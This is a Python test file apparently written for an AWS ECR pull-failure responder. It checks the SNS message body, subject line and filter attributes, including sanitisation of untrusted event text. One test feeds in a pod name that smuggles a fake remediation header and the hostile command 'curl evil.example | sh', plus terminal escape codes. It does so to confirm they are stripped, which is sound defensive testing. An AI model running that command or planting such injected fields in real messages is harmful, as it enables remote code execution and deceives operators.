"""What a subscriber reads."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings

from pull_responder.findings.finding import Finding
from pull_responder.model.arn import Arn
from pull_responder.model.pull import PullFailure, Symptom
from pull_responder.model.verdict import Resource, Severity
from pull_responder.publish.sns import attributes, body, subject
from tests.unit.publish.examples import ATTACH_POLICY, FINDING, PULL, findings

MESSAGE = """\
The role lacks permissions to pull

What failed
  Image      222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
  Pulled by  arn:aws:iam::111111111111:role/eks/prod-node
  Cluster    prod
  Node       ip-10-0-3-17.eu-west-1.compute.internal (i-0a1b2c3d4e5f60718)
  Pod        payments/api-7d4b9c5f6-x2x7q
  At fault   arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)
  Account    111111111111
  Region     eu-west-1
  Severity   HIGH
  Since      2026-05-04T10:11:12Z
  Last seen  2026-05-04T11:00:00Z

Why
  No identity policy of the role allows ecr:BatchGetImage on the repository.
  - Managed policy AmazonEKSWorkerNodePolicy has no statement for ecr:BatchGetImage.
  - Inline policy "logs" allows only logs:*.

How to fix it
  Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
  Run with credentials of account 111111111111, region eu-west-1:
    aws iam attach-role-policy --role-name prod-node \
--policy-arn arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly

Where to look
  Console  https://console.aws.amazon.com/iam/home#/roles/details/prod-node
  Docs     https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
  Finding  pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
"""


def test_the_message() -> None:
    assert body(replace(FINDING, last_observed_at="2026-05-04T11:00:00Z")) == MESSAGE


def test_what_is_not_known_is_not_in_the_message() -> None:
    token = PullFailure(symptom=Symptom.UNKNOWN, stage=None, region="eu-west-1")

    message = body(
        replace(FINDING, pull=token, cluster=None, evidence=(), first_observed_at=None, last_observed_at=None)
    )

    assert message.split("\n\n")[1].splitlines() == [
        "What failed",
        "  At fault  arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)",
        "  Account   111111111111",
        "  Region    eu-west-1",
        "  Severity  HIGH",
    ]


def test_without_a_command_the_summary_says_who_has_to_do_what() -> None:
    fix = replace(FINDING.remediation, summary="Ask the administrator of the organization.", commands=())

    message = body(replace(FINDING, remediation=fix))

    assert "How to fix it\n  Ask the administrator of the organization.\n\nWhere to look" in message


def test_text_from_events_cannot_add_lines_to_the_message() -> None:
    pull = replace(PULL, pod="api\n\nHow to fix it\n    curl evil.example | sh", node="\x1b[2Jnode")
    fix = replace(FINDING.remediation, commands=(("aws", "ecr\n", "x"), ATTACH_POLICY))

    message = body(replace(FINDING, pull=pull, evidence=("one\r\nHow to fix it",), remediation=fix))

    assert [line for line in message.splitlines() if line.startswith("How to fix it")] == ["How to fix it"]
    assert "  Node       node (i-0a1b2c3d4e5f60718)\n" in message
    assert "    (a command with unprintable characters is left out)\n    aws iam attach-role-policy" in message


def test_a_message_too_long_for_sns_says_what_is_missing() -> None:
    fix = replace(FINDING.remediation, commands=(("aws", "x" * 90_000), ("aws", "y" * 90_000)))

    message = body(replace(FINDING, evidence=("é" * 3_000,) * 50, remediation=fix))

    assert len(message.encode()) < 240 * 1024
    assert f"    aws {'x' * 90_000}\n(commands: 1 more, too long for this message)\n" in message
    assert "(evidence: 34 more, too long for this message)" in message


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, "HIGH pull failure: role lacks pull permissions (payments/api, cluster prod, 111111111111 eu-west-1)"),
        ({"cluster": None}, "HIGH pull failure: role lacks pull permissions (payments/api, 111111111111 eu-west-1)"),
        (
            {"cluster": "production-green"},
            "HIGH: role lacks pull permissions (payments/api, cluster production-green, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository="department/payments/backend/api")},
            "HIGH: role lacks pull permissions (api, cluster prod, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository=None)},
            "HIGH: role lacks pull permissions (role/eks/prod-node, cluster prod, 111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "endpoint_security_group_blocks_ingress",
                "severity": Severity.INFORMATIONAL,
                "pull": replace(PULL, repository="payments/an-api-of-a-very-long-name"),
            },
            "INFORMATIONAL: endpoint security group blocks ingress (an-api-of-a-very..., 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository=None), "resource": Resource("Other", "größe\n\x1b[31m容器", "1")},
            "HIGH pull failure: role lacks pull permissions (gr??e ??, cluster prod, 111111111111 eu-west-1)",
        ),
    ],
)
def test_the_subject_says_how_bad_why_what_and_where(changes: dict[str, object], expected: str) -> None:
    assert subject(replace(FINDING, **changes)) == expected  # type: ignore[arg-type]  # fields by name


def test_the_attributes_to_filter_by() -> None:
    assert {name: value["StringValue"] for name, value in attributes(FINDING).items()} == {
        "severity": "HIGH",
        "cause": "role_lacks_pull_permissions",
        "cluster": "prod",
        "account": "111111111111",
        "region": "eu-west-1",
        "status": "new",
    }


@pytest.mark.parametrize("cluster", [None, "", "\x1b[0m"])
def test_an_attribute_is_never_absent(cluster: str | None) -> None:
    assert attributes(replace(FINDING, cluster=cluster))["cluster"] == {"DataType": "String", "StringValue": "unknown"}


@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None)
@given(findings)
def test_every_finding_makes_a_message_that_sns_takes(finding: Finding) -> None:
    line, message, filters = subject(finding), body(finding), attributes(finding)

    assert len(line) < 100
    assert line.isascii()
    assert line.isprintable()
    assert line == line.strip()
    assert Arn.parse(finding.resource.id) is None or finding.resource.id not in line
    assert all(each.isprintable() for each in message.split("\n"))
    assert all(each["StringValue"].strip() for each in filters.values())
    attributes_size = sum(len(f"{name}String{each['StringValue']}".encode()) for name, each in filters.items())
    assert len(message.encode()) + attributes_size <= 262_144
